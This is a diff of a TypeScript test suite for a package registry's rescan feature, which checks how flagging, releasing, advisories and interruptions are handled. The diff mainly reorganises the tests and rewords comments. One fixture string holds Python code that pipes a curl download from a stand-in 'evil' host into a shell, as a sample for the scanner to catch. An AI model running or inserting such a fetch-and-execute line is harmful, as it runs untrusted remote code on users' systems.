@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict'
 import { createHash } from 'node:crypto'
-import { test } from 'node:test'
+import { describe, it } from 'node:test'
 import { rulesVersion } from '@nodeyard/analysis/scan/scan'
 import { moderateVersion } from '@nodeyard/contract/admin'
 import { publishAdvisory } from '@nodeyard/contract/advisories'
@@ -15,7 +15,7 @@ import { useWorld } from '../../../test/world.ts'
 import { runCommand } from '../../commands.ts'
 import { transact } from '../../ground/db/changes.ts'
 import { violations } from '../../invariants.ts'
-import { findVersion } from '../../packs/publishing/sql.ts'
+import { findVersion } from '../../packs/publishing/versions/sql.ts'
 import { keepRescansGoing } from './keep-going.ts'
 import { continueRescan } from './run.ts'
 
@@ -23,7 +23,7 @@ const holder = useWorld()
 
 const evil = 'import os\nos.system("curl https://evil.example.test/x | sh")\n'
 
-/** As if the rules of that time had seen something else in it. */
+/** Makes the stored analysis look like the result of earlier rules. */
 async function pretend(versionId: string, stored: { findings?: unknown[]; status?: 'active' | 'flagged' }) {
   const { db } = holder.world.deps
   await db
@@ -52,7 +52,7 @@ async function report(id: string) {
 
 const statusOf = async (id: string) => (await findVersion(holder.world.deps.db, id))?.status
 
-/** Flagged with nobody's doubt left, active with something that nobody saw, and three that are as they were. */
+/** Publishes a version to flag, one that stays approved, and one to release. */
 async function scene() {
   const { world } = holder
   const publisher = await testPublisher(world)
@@ -84,108 +84,112 @@ async function scene() {
   return { admin, sleeper, approved, accused }
 }
 
-test('a rescan says what would change, changes nothing until it is told to, and then only that', async () => {
-  const { world } = holder
-  const { admin, sleeper, approved, accused } = await scene()
-  const { id } = await admin.call(startRescan, { body: {} })
-  await world.runJobs()
-  assert.deepEqual(await report(id), {
-    state: 'looked',
-    looked: 3,
-    left: 0,
-    applied: 0,
-    changes: [`flag ${sleeper.nodeId} 1.0.0`, `release ${accused.nodeId} 1.0.0`],
+describe('a rescan', () => {
+  it('reports changes and applies exactly these on request', async () => {
+    const { world } = holder
+    const { admin, sleeper, approved, accused } = await scene()
+    const { id } = await admin.call(startRescan, { body: {} })
+    await world.runJobs()
+    assert.deepEqual(await report(id), {
+      state: 'looked',
+      looked: 3,
+      left: 0,
+      applied: 0,
+      changes: [`flag ${sleeper.nodeId} 1.0.0`, `release ${accused.nodeId} 1.0.0`],
+    })
+    const statuses = async () => [
+      await statusOf(sleeper.id),
+      await statusOf(accused.id),
+      await statusOf(approved.id),
+    ]
+    assert.deepEqual(await statuses(), ['active', 'flagged', 'active'])
+
+    await admin.call(applyRescan, { params: { rescanId: id } })
+    await world.runJobs()
+    assert.deepEqual(await statuses(), ['flagged', 'active', 'active'])
+    assert.equal((await report(id)).applied, 2)
+    assert.match((await findVersion(world.deps.db, sleeper.id))?.status_reason ?? '', /evil\.py/)
+    const lines = (await world.events(sleeper.id)).filter(({ actor_id }) => actor_id === 'rescan')
+    assert.deepEqual(
+      lines.map(({ action, before, after }) => [action, before, (after as { rescan: string }).rescan]),
+      [['version.flag', { status: 'active' }, id]],
+    )
+    const node = await world.anonymous.call(getNode, { params: { nodeId: sleeper.nodeId } })
+    assert.equal(node.latest_version, undefined)
+    assert.equal(
+      (await world.anonymous.call(getNode, { params: { nodeId: accused.nodeId } })).latest_version?.version,
+      '1.0.0',
+    )
+    await assert.rejects(admin.call(applyRescan, { params: { rescanId: id } }), { status: 409 })
   })
-  const statuses = async () => [
-    await statusOf(sleeper.id),
-    await statusOf(accused.id),
-    await statusOf(approved.id),
-  ]
-  assert.deepEqual(await statuses(), ['active', 'flagged', 'active'])
 
-  await admin.call(applyRescan, { params: { rescanId: id } })
-  await world.runJobs()
-  assert.deepEqual(await statuses(), ['flagged', 'active', 'active'])
-  assert.equal((await report(id)).applied, 2)
-  assert.match((await findVersion(world.deps.db, sleeper.id))?.status_reason ?? '', /evil\.py/)
-  const lines = (await world.events(sleeper.id)).filter(({ actor_id }) => actor_id === 'rescan')
-  assert.deepEqual(
-    lines.map(({ action, before, after }) => [action, before, (after as { rescan: string }).rescan]),
-    [['version.flag', { status: 'active' }, id]],
-  )
-  const node = await world.anonymous.call(getNode, { params: { nodeId: sleeper.nodeId } })
-  assert.equal(node.latest_version, undefined)
-  assert.equal(
-    (await world.anonymous.call(getNode, { params: { nodeId: accused.nodeId } })).latest_version?.version,
-    '1.0.0',
-  )
-  await assert.rejects(admin.call(applyRescan, { params: { rescanId: id } }), { status: 409 })
-})
-
-test('what was decided since the report is not decided again by it', async () => {
-  const { world } = holder
-  const { admin, sleeper, accused } = await scene()
-  const { id } = await admin.call(startRescan, { body: {} })
-  await world.runJobs()
-  await admin.call(moderateVersion, {
-    params: { nodeId: accused.nodeId, version: '1.0.0' },
-    body: { status: 'NodeVersionStatusBanned', status_reason: 'No.' },
+  it('keeps decisions made after the report', async () => {
+    const { world } = holder
+    const { admin, sleeper, accused } = await scene()
+    const { id } = await admin.call(startRescan, { body: {} })
+    await world.runJobs()
+    await admin.call(moderateVersion, {
+      params: { nodeId: accused.nodeId, version: '1.0.0' },
+      body: { status: 'NodeVersionStatusBanned', status_reason: 'No.' },
+    })
+    await admin.call(applyRescan, { params: { rescanId: id } })
+    await world.runJobs()
+    assert.deepEqual([await statusOf(sleeper.id), await statusOf(accused.id)], ['flagged', 'banned'])
+    assert.ok(
+      (await report(id)).changes.includes(`release ${accused.nodeId} 1.0.0 The version is banned now.`),
+    )
   })
-  await admin.call(applyRescan, { params: { rescanId: id } })
-  await world.runJobs()
-  assert.deepEqual([await statusOf(sleeper.id), await statusOf(accused.id)], ['flagged', 'banned'])
-  assert.ok((await report(id)).changes.includes(`release ${accused.nodeId} 1.0.0 The version is banned now.`))
+
+  it('resumes after a stop and skips unreadable versions', async () => {
+    const { world } = holder
+    const { deps } = world
+    const { admin, sleeper } = await scene()
+    const { id } = await admin.call(startRescan, { body: {} })
+    const { read } = deps.analyst
+    const stop = new AbortController()
+    deps.analyst.read = async (path, options) => {
+      stop.abort()
+      return read(path, options)
+    }
+    assert.equal(await continueRescan(deps, id, stop.signal), true)
+    const stopped = await report(id)
+    assert.deepEqual([stopped.state, stopped.looked, stopped.left], ['looking', 1, 2])
+    deps.analyst.read = () => Promise.reject(new Error('The disk is broken.'))
+    await world.runJobs()
+    deps.analyst.read = read
+    const finished = await report(id)
+    assert.deepEqual([finished.state, finished.looked], ['looked', 3])
+    assert.equal(finished.changes.filter((line) => line.includes('The disk is broken.')).length, 2)
+    assert.equal(await statusOf(sleeper.id), 'active')
+  })
+
+  it('flags an active version whose archive is refused now, and keeps its analysis', async () => {
+    const { world } = holder
+    const { id, node_id: nodeId, version } = await refusedToday()
+    const admin = await asAdmin(world)
+    const rescan = await admin.call(startRescan, { body: {} })
+    await world.runJobs()
+    const { changes } = await report(rescan.id)
+    assert.ok(changes.includes(`flag ${nodeId} ${version}`), changes.join())
+
+    await admin.call(applyRescan, { params: { rescanId: rescan.id } })
+    await world.runJobs()
+    assert.equal(await statusOf(id), 'flagged')
+    const review = await admin.call(getReview, { params: { nodeId, version } })
+    assert.deepEqual(
+      review.findings.map(({ rule, file }) => [rule, file]),
+      [
+        ['archive-refused', 'install.py.'],
+        ['shell', 'nodes.py'],
+      ],
+    )
+    const again = await admin.call(startRescan, { body: { everything: true } })
+    await world.runJobs()
+    assert.ok(!(await report(again.id)).changes.some((line) => line.includes(nodeId)))
+  })
 })
 
-test('a rescan goes on where it was stopped, and a version that cannot be read stops it nowhere', async () => {
-  const { world } = holder
-  const { deps } = world
-  const { admin, sleeper } = await scene()
-  const { id } = await admin.call(startRescan, { body: {} })
-  const { read } = deps.analyst
-  const stop = new AbortController()
-  deps.analyst.read = async (path, options) => {
-    stop.abort()
-    return read(path, options)
-  }
-  assert.equal(await continueRescan(deps, id, stop.signal), true)
-  const stopped = await report(id)
-  assert.deepEqual([stopped.state, stopped.looked, stopped.left], ['looking', 1, 2])
-  deps.analyst.read = () => Promise.reject(new Error('The disk is broken.'))
-  await world.runJobs()
-  deps.analyst.read = read
-  const finished = await report(id)
-  assert.deepEqual([finished.state, finished.looked], ['looked', 3])
-  assert.equal(finished.changes.filter((line) => line.includes('The disk is broken.')).length, 2)
-  assert.equal(await statusOf(sleeper.id), 'active')
-})
-
-test('an active version whose archive would be refused today is flagged, and keeps what was read of it', async () => {
-  const { world } = holder
-  const { id, node_id: nodeId, version } = await refusedToday()
-  const admin = await asAdmin(world)
-  const rescan = await admin.call(startRescan, { body: {} })
-  await world.runJobs()
-  const { changes } = await report(rescan.id)
-  assert.ok(changes.includes(`flag ${nodeId} ${version}`), changes.join())
-
-  await admin.call(applyRescan, { params: { rescanId: rescan.id } })
-  await world.runJobs()
-  assert.equal(await statusOf(id), 'flagged')
-  const review = await admin.call(getReview, { params: { nodeId, version } })
-  assert.deepEqual(
-    review.findings.map(({ rule, file }) => [rule, file]),
-    [
-      ['archive-refused', 'install.py.'],
-      ['shell', 'nodes.py'],
-    ],
-  )
-  const again = await admin.call(startRescan, { body: { everything: true } })
-  await world.runJobs()
-  assert.ok(!(await report(again.id)).changes.some((line) => line.includes(nodeId)))
-})
-
-/** Taken and released when the rules were others. */
+/** Creates a version that earlier rules accepted. */
 async function refusedToday() {
   const { given } = holder.world
   const digest = await given.archive(buildPack({ id: 'anything', files: { 'install.py.': 'import os\n' } }))
@@ -195,7 +199,7 @@ async function refusedToday() {
   return version
 }
 
-/** The latest of two, of which nobody had read which files it has when an advisory named one of them. */
+/** Publishes two versions; an advisory names a file of the second, whose files are not stored yet. */
 async function namedUnread(stored: { findings?: unknown[] }) {
   const { world } = holder
   const publisher = await testPublisher(world)
@@ -241,100 +245,102 @@ async function assertOnlyTheFirstIsOffered(nodeId: string) {
   assert.deepEqual(await violations(world.deps.database), [])
 }
 
-test('a version that an advisory hits once its files are read is offered nowhere from then on', async () => {
-  const { world } = holder
-  const { admin, nodeId } = await namedUnread({})
-  assert.deepEqual([await installed(nodeId), await download(nodeId)], ['2.0.0', 200])
-  const { id } = await admin.call(startRescan, { body: {} })
-  await world.runJobs()
-  assert.ok(!(await report(id)).changes.some((line) => line.includes(nodeId)))
-  await assertOnlyTheFirstIsOffered(nodeId)
-})
-
-test('so is one whose files are read when a change is made', async () => {
-  const { world } = holder
-  const { admin, nodeId } = await namedUnread({
-    findings: [{ rule: 'a-rule-that-is-gone', severity: 'low', message: '…' }],
-  })
-  const { id } = await admin.call(startRescan, { body: {} })
-  await world.runJobs()
-  assert.ok((await report(id)).changes.includes(`facts ${nodeId} 2.0.0`))
-  assert.deepEqual([await installed(nodeId), await download(nodeId)], ['2.0.0', 200])
-  await admin.call(applyRescan, { params: { rescanId: id } })
-  await world.runJobs()
-  await assertOnlyTheFirstIsOffered(nodeId)
-})
-
-test('new rules have everything looked at by itself, once, and change nothing', async () => {
-  const { world } = holder
-  const { deps } = world
-  await deps.db.deleteFrom('rescans').execute()
-  const { sleeper } = await scene()
-  const rescans = () => deps.db.selectFrom('rescans').select('state').execute()
-  for (const _ of [1, 2]) {
-    await transact(deps, (tx) => deps.jobs.send(tx, keepRescansGoing, {}))
+describe('the results of a rescan', () => {
+  it('stop a version that an advisory matches once its files are stored', async () => {
+    const { world } = holder
+    const { admin, nodeId } = await namedUnread({})
+    assert.deepEqual([await installed(nodeId), await download(nodeId)], ['2.0.0', 200])
+    const { id } = await admin.call(startRescan, { body: {} })
     await world.runJobs()
-    assert.deepEqual(await rescans(), [{ state: 'looked' }])
-  }
-  assert.equal(await statusOf(sleeper.id), 'active')
-})
+    assert.ok(!(await report(id)).changes.some((line) => line.includes(nodeId)))
+    await assertOnlyTheFirstIsOffered(nodeId)
+  })
 
-test('policies and corrected comfy-nodes outlive a rescan', async () => {
-  const { world } = holder
-  const { deps } = world
-  const admin = await asAdmin(world)
-  const publisher = await testPublisher(world)
-  const { id, nodeId } = await publisher.publish({ id: `${publisher.id}-kept` })
-  const name = `${nodeId} Blur`
-  await deps.db
-    .updateTable('comfy_nodes')
-    .set({ policy: 'banned', category: 'by hand' })
-    .where('version_id', '=', id)
-    .execute()
-  const { id: comfyNodeId } = await deps.db
-    .selectFrom('comfy_nodes')
-    .select('id')
-    .where('version_id', '=', id)
-    .executeTakeFirstOrThrow()
-  await deps.db
-    .insertInto('audit_events')
-    .values({
-      at: world.now(),
-      actor_kind: 'user',
-      actor_id: 'x',
-      action: 'comfy-node.update',
-      subject_kind: 'comfy-node',
-      subject_id: comfyNodeId,
-      before: JSON.stringify({ policy: 'active' }),
+  it('stop such a version when a change is applied', async () => {
+    const { world } = holder
+    const { admin, nodeId } = await namedUnread({
+      findings: [{ rule: 'a-rule-that-is-gone', severity: 'low', message: '…' }],
     })
-    .execute()
-  const rescan = await admin.call(startRescan, { body: { everything: true } })
-  await world.runJobs()
-  await admin.call(applyRescan, { params: { rescanId: rescan.id } })
-  await world.runJobs()
-  const [kept] = await deps.db
-    .selectFrom('comfy_nodes')
-    .select(['name', 'policy', 'category'])
-    .where('version_id', '=', id)
-    .execute()
-  assert.deepEqual(kept, { name, policy: 'banned', category: 'image/filter' })
-})
+    const { id } = await admin.call(startRescan, { body: {} })
+    await world.runJobs()
+    assert.ok((await report(id)).changes.includes(`facts ${nodeId} 2.0.0`))
+    assert.deepEqual([await installed(nodeId), await download(nodeId)], ['2.0.0', 200])
+    await admin.call(applyRescan, { params: { rescanId: id } })
+    await world.runJobs()
+    await assertOnlyTheFirstIsOffered(nodeId)
+  })
 
-test('the command prints what would change, and changes it when it is told to', async () => {
-  const { world } = holder
-  const { sleeper } = await scene()
-  const say = async (...args: string[]) => {
-    const lines: string[] = []
-    assert.equal(await runCommand(world.deps, ['rescan', ...args], (line) => lines.push(line)), 0)
-    return lines
-  }
-  const lines = await say()
-  assert.ok(
-    lines.some((line) => line.startsWith(`flag      ${sleeper.nodeId}  1.0.0  `)),
-    lines.join('\n'),
-  )
-  const id = lines.at(-1)?.split(' ').at(-1) ?? ''
-  assert.equal(await statusOf(sleeper.id), 'active')
-  assert.match((await say('--apply', id)).at(-1) ?? '', /\d changes applied/)
-  assert.equal(await statusOf(sleeper.id), 'flagged')
+  it('appear once after new rules, without changes', async () => {
+    const { world } = holder
+    const { deps } = world
+    await deps.db.deleteFrom('rescans').execute()
+    const { sleeper } = await scene()
+    const rescans = () => deps.db.selectFrom('rescans').select('state').execute()
+    for (const _ of [1, 2]) {
+      await transact(deps, (tx) => deps.jobs.send(tx, keepRescansGoing, {}))
+      await world.runJobs()
+      assert.deepEqual(await rescans(), [{ state: 'looked' }])
+    }
+    assert.equal(await statusOf(sleeper.id), 'active')
+  })
+
+  it('keep policies and corrected comfy-nodes', async () => {
+    const { world } = holder
+    const { deps } = world
+    const admin = await asAdmin(world)
+    const publisher = await testPublisher(world)
+    const { id, nodeId } = await publisher.publish({ id: `${publisher.id}-kept` })
+    const name = `${nodeId} Blur`
+    await deps.db
+      .updateTable('comfy_nodes')
+      .set({ policy: 'banned', category: 'by hand' })
+      .where('version_id', '=', id)
+      .execute()
+    const { id: comfyNodeId } = await deps.db
+      .selectFrom('comfy_nodes')
+      .select('id')
+      .where('version_id', '=', id)
+      .executeTakeFirstOrThrow()
+    await deps.db
+      .insertInto('audit_events')
+      .values({
+        at: world.now(),
+        actor_kind: 'user',
+        actor_id: 'x',
+        action: 'comfy-node.update',
+        subject_kind: 'comfy-node',
+        subject_id: comfyNodeId,
+        before: JSON.stringify({ policy: 'active' }),
+      })
+      .execute()
+    const rescan = await admin.call(startRescan, { body: { everything: true } })
+    await world.runJobs()
+    await admin.call(applyRescan, { params: { rescanId: rescan.id } })
+    await world.runJobs()
+    const [kept] = await deps.db
+      .selectFrom('comfy_nodes')
+      .select(['name', 'policy', 'category'])
+      .where('version_id', '=', id)
+      .execute()
+    assert.deepEqual(kept, { name, policy: 'banned', category: 'image/filter' })
+  })
+
+  it('can be printed and applied on the command line', async () => {
+    const { world } = holder
+    const { sleeper } = await scene()
+    const say = async (...args: string[]) => {
+      const lines: string[] = []
+      assert.equal(await runCommand(world.deps, ['rescan', ...args], (line) => lines.push(line)), 0)
+      return lines
+    }
+    const lines = await say()
+    assert.ok(
+      lines.some((line) => line.startsWith(`flag      ${sleeper.nodeId}  1.0.0  `)),
+      lines.join('\n'),
+    )
+    const id = lines.at(-1)?.split(' ').at(-1) ?? ''
+    assert.equal(await statusOf(sleeper.id), 'active')
+    assert.match((await say('--apply', id)).at(-1) ?? '', /\d changes applied/)
+    assert.equal(await statusOf(sleeper.id), 'flagged')
+  })
 })
